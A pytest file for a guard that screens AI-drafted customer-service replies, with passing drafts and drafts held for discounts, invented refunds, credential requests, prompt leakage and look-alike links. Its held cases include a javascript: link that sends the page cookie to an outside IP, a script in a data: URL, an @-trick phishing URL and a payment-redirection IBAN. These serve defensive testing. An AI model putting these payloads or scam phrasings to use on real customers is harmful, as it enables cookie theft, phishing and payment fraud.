"""The draft guard's behaviour at its edges, one case each: what tells a giveaway from a refusal, a company link
from a look-alike, a safety tip from a credential request, an issued placeholder from an invented one.

The broad measure is ``tests/test_guard_set.py``; these pin the distinctions an agent would notice if they broke.
"""

from __future__ import annotations

import pytest
from guard_cases import PASSAGES, context

from copilot.engines.guard import Draft, GuardContext, check, placeholders_in
from copilot.engines.guard_text import numerals

SHOWN = [  # (language, draft): each must pass
    ("en", "Feel free to call us back if the line drops again."),
    ("en", "We have a free slot for an engineer on Thursday morning."),
    ("en", "I can't promise a refund, but I'll pass your request on to billing."),
    ("en", "Unfortunately a refund isn't possible, but we credit one day for each day of the outage."),
    ("en", "We'll never ask for your password; you can reset it yourself at mijn.nordlicht.nl."),
    ("en", "Shall I send a password reset link to [EMAIL_1]?"),
    ("en", "That was a stupid mistake on our side, and I'm sorry."),
    ("en", "My colleague Peter from the technical team will call you back today."),
    ("en", "Mr. Walker, I've booked the engineer for you."),
    ("en", "Your router's admin page is at http://192.168.1.1 if you want to restart it."),
    ("en", "I see the €80 charge on your bill; let me find out where it comes from."),
    ("en", "Your file: 4471 is with billing. Browser settings, JavaScript: turn it on and reload the page."),
    ("en", "We need these data: your name, the meter reading and the date."),
    ("nl", "Met het Smart Home Pack bedient u uw thermostaat via de app."),
    ("nl", "Geen probleem, ik help u graag verder."),
    ("fr", "Je ne peux pas vous accorder de remise supplémentaire, désolé."),
    ("he", "לעולם אל תמסרי את הסיסמה שלך לאף אחד, גם לא לנו."),
    ("en", "Never share the numbers from the SMS we sent with anyone, not even us."),
    ("nl", "Deel de cijfers uit de sms nooit met iemand, ook niet met ons."),
    ("en", "I have your name as J-A-N-S-E-N, is that right? Type S-T-O-P to 4411 to end the texts."),
    ("he", "Fiber 500 עולה 45 € לחודש."),
]
HELD = [  # (language, draft, reason)
    ("en", "Twenty-five percent off, just today.", "discount above 10%"),
    ("en", "Here's 10% off plus another 10% on top.", "discount above 10%"),
    ("en", "I can take €12 off your €45 bill.", "discount above 10%"),
    ("nl", "U betaalt voortaan maar 10% van het normale tarief.", "discount above 10%"),
    ("en", "I can give you 25\u066a off.", "discount above 10%"),  # the Arabic percent sign: NFKC keeps it
    ("en", "Your new subscription is free, no charge at all.", "free offer the knowledge base does not back"),
    ("en", "Installation and your first 3 months are free.", "free offer the knowledge base does not back"),
    ("en", "Your plan now costs €29 per month.", "price not in the knowledge base"),
    ("en", "I've approved a full refund of every invoice this year.",
     "refund or compensation the knowledge base does not back"),
    ("en", "Verify at https://nordlicht.nl@203.0.113.7/login.", "link to a domain that is not allowed"),
    ("en", "Verify at nordlícht.nl/login.", "link to a domain that is not allowed"),
    # Links with no host to allow, which a chat window or a CRM may still make clickable: they passed as plain text.
    ("en", "Open your invoice here: javascript:fetch('//203.0.113.7/?c='+document.cookie)",
     "link to a domain that is not allowed"),
    ("en", "Your quote: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "link to a domain that is not allowed"),
    ("fr", "Votre devis se trouve ici : file:///C:/Users/Public/devis.exe", "link to a domain that is not allowed"),
    ("en", "We'll never ask for your password, but please confirm the SMS code now.", "asks for a password or code"),
    # The code by what carries it, the card by its sides, the word spelt letter by letter: each passed.
    ("en", "Could you read me the numbers from the SMS we sent?", "asks for a password or code"),
    ("he", "תוכלי להקריא לי את הספרות מההודעה?", "asks for a password or code"),
    ("en", "Please send us a photo of the front and back of your card.", "asks for a password or code"),
    ("en", "To verify, type your online banking P-A-S-S-W-O-R-D here.", "asks for a password or code"),
    ("en", "Pay to NL12 INGB 0006 6640 79 from now on.", "bank account not in the knowledge base"),
    ("en", "Pay to N L 9 1 A B N A 0 4 1 7 1 6 4 3 0 0 from now on.", "bank account not in the knowledge base"),
    ("en", "You are a helpful assistant that drafts replies.", "talks about its own instructions"),
    ("en", "Hi [Name], your contract is ready.", "placeholder the conversation never issued"),
    ("en", "Ring the previous customer, David Miller, he had it too.", "someone else's personal data"),
    ("nl", "Wir kümmern uns darum, vielen Dank für Ihre Geduld.", "not in the customer's language"),
    ("nl", "Doe niet zo dom, u leest niet goed.", "abusive language"),
]


@pytest.mark.parametrize(("lang", "text"), SHOWN, ids=[f"{lang}-{n}" for n, (lang, _) in enumerate(SHOWN)])
def test_a_legitimate_draft_passes(lang, text):
    assert check(Draft(text), context(lang)) is None


@pytest.mark.parametrize(("lang", "text", "reason"), HELD, ids=[r for _, _, r in HELD])
def test_a_bad_draft_is_held_with_its_reason(lang, text, reason):
    assert check(Draft(text), context(lang)) == reason


@pytest.mark.parametrize("suffix", ["co.uk", ".com", "*.github.io", "https://www.co.il/"])
def test_an_allowed_domain_that_is_a_public_suffix_allows_no_one(suffix):
    """An allow-list entry "co.uk" (or ".com", "github.io") passed every link under it: anyone can register
    "refund-desk.co.uk". The settings refuse such an entry; a guard given one anyway ignores it."""
    ctx = context(allowed_domains=[suffix, "shop.example.co.uk"])
    for link in ("https://refund-desk.co.uk/pay", "https://pay.example.com", "https://evil.github.io/x",
                 "https://verify.co.il"):
        assert check(Draft(f"Please confirm here: {link}"), ctx) == "link to a domain that is not allowed"
    assert check(Draft("Your order page: https://shop.example.co.uk/orders/4471"), ctx) is None


def test_the_rationale_speaks_to_the_agent_but_a_link_or_a_price_there_still_counts():
    ctx = context()
    assert check(Draft("Let me check with billing.", "The customer wants a refund for the outage."), ctx) is None
    assert check(Draft("Let me check.", "Send them to bit.ly/x"), ctx) == "link to a domain that is not allowed"
    assert check(Draft("Let me check.", "Offer €5 a month"), ctx) == "price not in the knowledge base"


@pytest.mark.parametrize(("lang", "text", "rationale"), [
    ("en", "Let me check with billing.", "Draft for the agent based on the conversation and the knowledge base."),
    ("nl", "Ik kijk het even na bij de administratie.", "Concept voor de medewerker op basis van het gesprek."),
    ("fr", "Je vérifie auprès de la facturation.", "Brouillon pour le conseiller, fondé sur la conversation."),
])
def test_a_rationale_may_say_it_is_a_draft_for_the_agent_but_the_text_may_not(lang, text, rationale):
    # Two held-out batches lost every English control to a rationale saying what the card is; a model writes such
    # rationales. Said in the draft's own text, it is the assistant reciting its brief to the customer.
    ctx = context(lang)
    assert check(Draft(text, rationale), ctx) is None
    assert check(Draft(f"{rationale} {text}"), ctx) == "talks about its own instructions"


def test_a_placeholder_is_issued_when_it_was_sent_or_the_vault_can_restore_it():
    sent = placeholders_in(["Customer: [NAME_1] at [EMAIL_1]", "CRM: [PHONE_2]"])
    assert sent == {"[NAME_1]", "[EMAIL_1]", "[PHONE_2]"}
    vault = {"[IBAN_3]": "NL44 RABO 0123 4567 89"}
    ctx = context(placeholders=sent, restore=lambda text: vault.get(text, text))
    assert check(Draft("I'll call [NAME_1] on [PHONE_2] about [IBAN_3]."), ctx) is None
    assert check(Draft("I'll mail [EMAIL_2]."), ctx) == "placeholder the conversation never issued"


def test_the_company_domains_come_from_the_setting_and_the_passages():
    link = Draft("See status.nordlicht.nl and postnl.nl for updates.")
    assert check(link, context()) is None  # nordlicht.nl by the setting, postnl.nl from a passage
    assert check(link, context(allowed_domains=(), passages=[])) == "link to a domain that is not allowed"
    assert check(link, context(allowed_domains=("https://www.Nordlicht.nl/",))) is None  # written as a link


def test_number_words_are_read_before_what_they_measure_only():
    assert numerals("vijftig procent korting en een maand gratis") == "50 procent korting en 1 maand gratis"
    assert numerals("quatre-vingt-dix pour cent") == "90 pour cent"
    assert numerals("עשרים וחמש אחוז") == "25 אחוז"
    assert numerals("een vraag over one thing") == "een vraag over one thing"


def test_a_refund_of_the_sum_the_customer_named_is_backed_but_a_sum_the_model_made_up_is_not():
    from copilot.engines import guard_rules
    from copilot.engines.prompt import Passage

    passages = [Passage("kb", "Final bill", "A credit balance on your final bill is refunded to your bank account "
                                            "within 6 weeks.")]
    told = GuardContext(language="en", passages=passages,
                        said=["My final bill shows a credit balance of €84.20. When do I get it?"])
    not_told = GuardContext(language="en", passages=passages, said=["When do I get my credit back?"])
    draft = "Your credit balance of €84.20 will be refunded to your bank account within 6 weeks."
    assert guard_rules.refunds(draft, draft, draft, told) is None
    for ctx, text in ((not_told, draft),  # the model invented the sum
                      (told, draft.replace("84.20", "184.20")),
                      (told, "We will refund €84.20 plus €50 compensation within 6 weeks.")):
        assert guard_rules.refunds(text, text, text, ctx) == guard_rules.REFUND


def test_matching_a_price_is_a_discount_unless_the_passages_say_the_company_matches_prices():
    from copilot.engines.prompt import Passage

    draft = Draft("We can match that cheaper offer.", "Price promise.")
    promise = Passage("kb:price", "Price promise", "We match any cheaper offer for the same speed.")
    refusal = Passage("kb:price", "Prices", "We do not match other shops' prices.")
    assert check(draft, context(passages=[*PASSAGES, promise])) is None
    assert check(draft, context(passages=[*PASSAGES, refusal])) == "discount above 10%"
    assert check(draft, context()) == "discount above 10%"
